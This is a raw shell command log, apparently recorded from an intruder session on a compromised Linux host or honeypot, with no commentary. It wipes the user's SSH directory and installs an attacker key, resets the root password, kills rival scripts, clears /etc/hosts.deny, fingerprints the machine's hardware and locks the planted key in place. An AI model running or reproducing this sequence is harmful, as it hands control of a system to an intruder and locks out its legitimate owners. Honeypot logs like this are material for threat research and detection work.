cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAQQDHk2vN5Rr0y1cLx9uZ8e3mF6Q7t4J0s1p2o3i4u5y6t7r8e9w0q1a2s3d4f5g6h7j8k9l0z1x2c3v4b5n6m7q8 mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~
cat /proc/cpuinfo | grep name | wc -l
echo "root:Gm7kQ2xLwT9b"|chpasswd|bash
rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 auth.sh; echo > /etc/hosts.deny; pkill -9 sleep;
cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}' | wc -w
free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}' | wc -w
ls -lh $(which ls) | awk '{print $NF}'
which ls
crontab -l
w | head -1 | grep -c 'load average'
uname -m
uname
whoami
lscpu | grep -c "^Socket(s):"
df -h | head -n 2 | awk 'FNR == 2 {print $2;}' | grep -c .
lockr -ia .ssh
